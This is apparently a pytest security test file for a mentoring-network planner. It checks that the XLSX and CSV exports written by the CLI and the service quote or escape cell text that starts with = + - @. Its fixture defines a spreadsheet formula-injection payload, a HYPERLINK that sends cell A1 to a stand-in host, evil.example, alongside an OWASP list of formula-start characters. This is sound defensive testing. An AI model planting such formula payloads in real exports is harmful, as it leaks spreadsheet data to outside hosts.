"""No export holds a formula cell or an unescaped leading = + - @ (issue 12, case 4).

Schools, directions, curators and municipalities are named like formulas;
every XLSX and CSV the CLI (library) and the service write is then
inspected cell by cell.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from mentornet.model import Competence, Curator, Direction, Network, School
from tests.security.conftest import Server, auth, multipart, request

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
NAMES = {
    "L1": EVIL, "L2": "+SUM(1,2)", "P1": "-2+3", "H1": "@cmd",
}


def formula_network() -> Network:
    schools = tuple(School(id=sid, name=name, municipality="=1+1") for sid, name in NAMES.items())
    return Network(
        name="=evil",
        schools=schools,
        directions=(Direction(id="d1", name="=Quality()", curators=("@cur",)), Direction(id="d2", name="-Talents", curators=("+cur",))),
        curators=(Curator(id="@cur", name="=cur()", max_teams=10), Curator(id="+cur", name="-cur", max_teams=10)),
        competences=(
            Competence(school="L1", direction="d1", level="leader"),
            Competence(school="P1", direction="d1", level="promising"),
            Competence(school="H1", direction="d1", level="hidden_reserve"),
            Competence(school="L2", direction="d1", level="hidden_reserve"),
            Competence(school="L2", direction="d2", level="leader"),
            Competence(school="L1", direction="d2", level="promising"),
            Competence(school="P1", direction="d2", level="hidden_reserve"),
        ),
    )


#: The test's own list (OWASP): a cell starting with one of these runs as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    return text[:1] in FORMULA_STARTS


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_safe_xlsx(data: bytes, what: str) -> int:
    """No formula in any sheet; formula-like text cells are quoted strings. Returns how many there were."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >/]", zf.read(name)), f"{what}: a formula in {name}"
    wb = load_workbook(io.BytesIO(data))
    quoted = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{what}: {ws.title}!{cell.coordinate} {cell.value!r} is not marked as text"
                    quoted += 1
    return quoted


def assert_safe_csv(text: str, what: str) -> int:
    """No cell starts with = + - @ tab or CR unless it is a number. Returns how many cells were quoted."""
    quoted = 0
    for r, row in enumerate(csv.reader(io.StringIO(text.lstrip("\ufeff")))):
        for cell in row:
            assert not (cell[:1] in FORMULA_STARTS and not _number(cell)), f"{what}: row {r + 1} cell {cell!r}"
            quoted += cell.startswith("'") and is_formula_like(cell[1:])
    return quoted


# ---------------------------------------------------------------- library (what the CLI writes)


@pytest.fixture(scope="module")
def plan_and_network():
    from mentornet.planning import solve

    network = formula_network()
    return network, solve(network, solver="greedy")


def test_plan_exports_quote_formula_names(plan_and_network, tmp_path: Path) -> None:
    from mentornet.export import write_plan

    network, plan = plan_and_network
    assert plan.pairs, "the network must give pairs, so that names reach every sheet"
    paths = write_plan(network, plan, tmp_path)
    assert assert_safe_xlsx(paths["xlsx"].read_bytes(), "plan.xlsx") >= 5
    quoted = sum(assert_safe_csv(p.read_text(encoding="utf-8-sig"), p.name) for p in tmp_path.glob("*.csv"))
    assert quoted >= 5


def test_cli_plan_writes_no_formula_cells(tmp_path: Path) -> None:
    """``mentornet plan`` (plan.xlsx with its plots sheet, the CSV files) and ``mentornet template``."""
    from typer.testing import CliRunner

    from mentornet.cli import _register, app

    _register()  # the commands are added on first use
    source = tmp_path / "evil.json"
    source.write_text(formula_network().model_dump_json(), encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["plan", str(source), "--out", str(out), "--solver", "greedy", "--quiet"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert assert_safe_xlsx((out / "plan.xlsx").read_bytes(), "plan.xlsx") >= 5
    assert sum(assert_safe_csv(p.read_text(encoding="utf-8-sig"), p.name) for p in out.glob("*.csv")) >= 5
    result = CliRunner().invoke(app, ["template", str(tmp_path / "t.xlsx")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert_safe_xlsx((tmp_path / "t.xlsx").read_bytes(), "template.xlsx")


def test_network_exports_quote_formula_names_and_read_back_unchanged(tmp_path: Path) -> None:
    from mentornet.io import read_network, write_network

    network = formula_network()
    xlsx = write_network(network, tmp_path / "net.xlsx")
    assert assert_safe_xlsx(xlsx.read_bytes(), "net.xlsx") >= 5
    folder = write_network(network, tmp_path / "net")
    assert sum(assert_safe_csv(p.read_text(encoding="utf-8-sig"), p.name) for p in Path(folder).glob("*.csv")) >= 5
    for path in (xlsx, folder):
        back = read_network(path)
        assert {s.id: s.name for s in back.schools} == NAMES
        assert [d.name for d in back.directions] == ["=Quality()", "-Talents"]


def test_template_has_no_formula_cells(tmp_path: Path) -> None:
    from mentornet.io import write_template

    path = write_template(tmp_path / "template.xlsx")
    assert_safe_xlsx(Path(path).read_bytes(), "template.xlsx")


@given(st.text(max_size=12))
def test_safe_text_round_trips_and_never_starts_a_formula(text: str) -> None:
    from mentornet.io.cells import safe_text, unescape_text

    out = safe_text(text)
    assert not is_formula_like(out)
    assert unescape_text(out) == text


# ---------------------------------------------------------------- the service


def _wait_job(server: Server, job_id: int) -> dict:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        _, _, body = request(server, "GET", f"/api/jobs/{job_id}", headers=auth())
        job = json.loads(body)
        if job["state"] in ("done", "failed", "cancelled"):
            return job
        time.sleep(0.2)
    raise AssertionError("the solve did not finish in 60 s")


def test_service_downloads_quote_formula_names(server: Server) -> None:
    content = formula_network().model_dump_json().encode()
    data, ctype = multipart("evil.json", content)
    status, _, body = request(server, "POST", "/api/networks", data, {**auth(), "Content-Type": ctype})
    assert status == 201, body
    network_id = json.loads(body)["id"]
    status, _, body = request(server, "POST", "/api/scenarios", json.dumps({"network_id": network_id}).encode(),
                              {**auth(), "Content-Type": "application/json"})
    assert status == 201, body
    scenario_id = json.loads(body)["id"]
    status, _, body = request(server, "POST", f"/api/scenarios/{scenario_id}/solve", b'{"solver": "greedy"}',
                              {**auth(), "Content-Type": "application/json"})
    assert status == 202, body
    job = _wait_job(server, json.loads(body)["id"])
    assert job["state"] == "done", job
    plan_id = job["plan_id"]

    status, _, xlsx = request(server, "GET", f"/api/plans/{plan_id}/plan.xlsx", headers=auth())
    assert status == 200 and assert_safe_xlsx(xlsx, "plan.xlsx") >= 5
    status, _, zipped = request(server, "GET", f"/api/plans/{plan_id}/plan-csv.zip", headers=auth())
    assert status == 200
    with zipfile.ZipFile(io.BytesIO(zipped)) as zf:
        assert sum(assert_safe_csv(zf.read(n).decode("utf-8-sig"), n) for n in zf.namelist()) >= 5
    status, _, xlsx = request(server, "GET", f"/api/networks/{network_id}/download?format=xlsx", headers=auth())
    assert status == 200 and assert_safe_xlsx(xlsx, "network.xlsx") >= 5
    status, _, zipped = request(server, "GET", f"/api/networks/{network_id}/download?format=csv", headers=auth())
    assert status == 200
    with zipfile.ZipFile(io.BytesIO(zipped)) as zf:
        assert sum(assert_safe_csv(zf.read(n).decode("utf-8-sig"), n) for n in zf.namelist() if n.endswith(".csv")) >= 5
    status, _, xlsx = request(server, "GET", "/api/template", headers=auth())
    assert status == 200
    assert_safe_xlsx(xlsx, "template.xlsx")
    server.assert_memory_bounded()
